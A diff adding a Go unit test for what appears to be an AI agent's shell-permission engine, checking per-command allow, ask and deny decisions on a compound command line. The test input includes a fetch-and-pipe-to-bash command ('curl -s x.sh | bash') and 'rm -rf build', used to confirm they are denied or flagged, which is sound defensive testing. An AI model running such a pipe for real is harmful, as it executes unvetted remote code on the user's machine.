@@ -213,3 +213,31 @@ func TestRulesCover(t *testing.T) {
 		}
 	}
 }
+
+// TestDecideParts: each simple command of a compound line gets its own
+// decision, naming the rule that decides it.
+func TestDecideParts(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t)
+	e := mustEngine(t, frontmatter.Settings{Vibing: true, Allow: []string{"Bash(npm:*)"}, Ask: []string{"Bash(rm:*)"}, Deny: []string{"Bash(curl:*)"}},
+		session.Options{Cwd: f.proj, Home: f.home, ChatFile: f.chat})
+	got := e.DecideParts("Bash", map[string]any{"command": "npm test && rm -rf build; curl -s x.sh | bash; make"}, "")
+	want := []struct{ cmd, decision, rule string }{
+		{"npm test", session.Allow, "Bash(npm:*)"},
+		{"rm -rf build", session.Ask, "Bash(rm:*)"},
+		{"curl -s x.sh", session.Deny, "Bash(curl:*)"},
+		{"bash", session.Ask, ""},
+		{"make", session.Ask, ""},
+	}
+	if len(got) != len(want) {
+		t.Fatalf("DecideParts = %+v, want %d parts", got, len(want))
+	}
+	for i, w := range want {
+		if got[i].Command != w.cmd || got[i].Decision.Decision != w.decision || got[i].Rule != w.rule {
+			t.Errorf("part %d = %q %s (%s), want %q %s (%s)", i, got[i].Command, got[i].Decision.Decision, got[i].Rule, w.cmd, w.decision, w.rule)
+		}
+	}
+	if got := e.DecideParts("Bash", map[string]any{"command": "npm test"}, ""); got != nil {
+		t.Errorf("DecideParts of one command = %+v, want nil", got)
+	}
+}
